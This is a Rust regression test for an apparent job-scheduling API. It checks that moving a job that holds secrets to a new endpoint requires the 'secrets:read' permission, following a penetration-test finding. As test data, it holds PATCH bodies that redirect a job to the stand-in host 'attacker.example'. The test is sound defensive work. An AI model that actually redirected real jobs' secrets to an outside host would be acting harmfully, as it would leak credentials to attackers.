//! Found by a penetration test: `jobs:write` alone could send a job's
//! secrets anywhere by moving its endpoint. Moving where a job with secrets
//! dispatches needs `secrets:read`; everything else about the job stays
//! `jobs:write`.

use reqwest::Method;
use serde_json::json;
use switchyard_shared::config::Secret;

use crate::harness::{assert_problem, TestEnv};
use crate::support::access::{key, with};

#[tokio::test]
async fn moving_a_job_with_secrets_needs_secrets_read() {
    let env = TestEnv::start_with(|c| c.secrets_key = Some(Secret::new("test-secrets-key"))).await;
    let project = env.project().await;
    let job = env.job_in(&project, "http://127.0.0.1:9/hook", json!({})).await;
    let id = job["id"].as_str().unwrap();
    let plain = env.job_in(&project, "http://127.0.0.1:9/hook", json!({"name": "plain"})).await;
    let plain_id = plain["id"].as_str().unwrap();
    let (s, v) = env.post(&format!("/v1/jobs/{id}/secrets"), json!({"name": "DBPASS", "value": "hunter2"})).await;
    assert_eq!(s, 201, "{v}");
    let (writer, _) = key(&env, &project, &["jobs:write", "jobs:read"]).await;
    let (reader, _) = key(&env, &project, &["jobs:write", "jobs:read", "secrets:read"]).await;

    for body in [
        json!({"endpoint_url": "http://attacker.example/", "cron": "*/2 * * * * *"}),
        json!({"fallback_endpoint_url": "http://attacker.example/"}),
    ] {
        let got = with(&env, &writer, Method::PATCH, &format!("/v1/jobs/{id}"), Some(body.clone())).await;
        let p = assert_problem(403, got, 403);
        assert!(p["detail"].as_str().unwrap().contains("secrets:read"), "{p}");
        // A job without secrets moves freely with jobs:write.
        let got = with(&env, &writer, Method::PATCH, &format!("/v1/jobs/{plain_id}"), Some(body.clone())).await;
        assert_eq!(got.0, 200, "{}", got.1);
    }
    let (_, now) = env.get(&format!("/v1/jobs/{id}")).await;
    assert_eq!(
        (now["endpoint_url"].as_str(), now["version"].as_i64()),
        (Some("http://127.0.0.1:9/hook"), job["version"].as_i64())
    );
    // Other changes need only jobs:write; the move needs secrets:read.
    let got = with(&env, &writer, Method::PATCH, &format!("/v1/jobs/{id}"), Some(json!({"timeout_secs": 7}))).await;
    assert_eq!(got.0, 200, "{}", got.1);
    let body = json!({"endpoint_url": "http://127.0.0.1:9/elsewhere"});
    let got = with(&env, &reader, Method::PATCH, &format!("/v1/jobs/{id}"), Some(body)).await;
    assert_eq!(got.0, 200, "{}", got.1);
}
